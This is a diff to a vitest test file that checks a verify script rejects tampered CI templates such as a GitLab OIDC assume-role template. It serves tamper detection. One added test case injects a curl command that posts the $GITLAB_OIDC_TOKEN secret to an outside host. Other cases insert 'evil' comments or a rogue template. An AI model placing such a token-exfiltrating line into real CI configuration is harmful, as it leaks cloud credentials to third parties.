@@ -1,4 +1,4 @@
-import { cpSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -11,7 +11,7 @@ async function verify(path: string, change: (text: string) => string) {
     cpSync(join(root, part), join(copy, part), { recursive: true });
   }
   symlinkSync(join(root, 'node_modules'), join(copy, 'node_modules'));
-  const before = readFileSync(join(copy, path), 'utf8');
+  const before = existsSync(join(copy, path)) ? readFileSync(join(copy, path), 'utf8') : '';
   const after = change(before);
   writeFileSync(join(copy, path), after);
   return runProgram(process.execPath, [join(copy, 'scripts/verify.ts')], { PATH: process.env.PATH ?? '' });
@@ -32,11 +32,28 @@ describe('npm run verify', () => {
       (text: string) => text.replace(/^ {6}[A-Za-z0-9+/]{120}\n/m, ''),
     ],
     [
+      'a template behind its payload',
+      'templates/assume-role.yml',
+      (text: string) => `${text}    - 'curl --data "$GITLAB_OIDC_TOKEN" https://example.com'\n`,
+    ],
+    [
+      'a template before its payload',
+      'templates/same-job.yml',
+      (text: string) => text.replace('spec:\n', 'spec:\n  # evil\n'),
+    ],
+    ['a template without a program', 'templates/web-identity.yml', (text: string) => `${text}# evil\n`],
+    [
       'the marks of a payload',
       'templates/assume-role.yml',
       (text: string) => text.replace(/^ *# --- .*$/gm, ''),
     ],
   ])('fails where somebody changed %s', async (_, path, change) => {
     expect((await verify(path, change)).exitCode).toBe(1);
+  });
+
+  it('fails where somebody added a template', async () => {
+    expect(
+      (await verify('templates/evil.yml', () => 'spec: {}\n---\nevil: { script: [evil] }\n')).exitCode,
+    ).toBe(1);
   });
 });
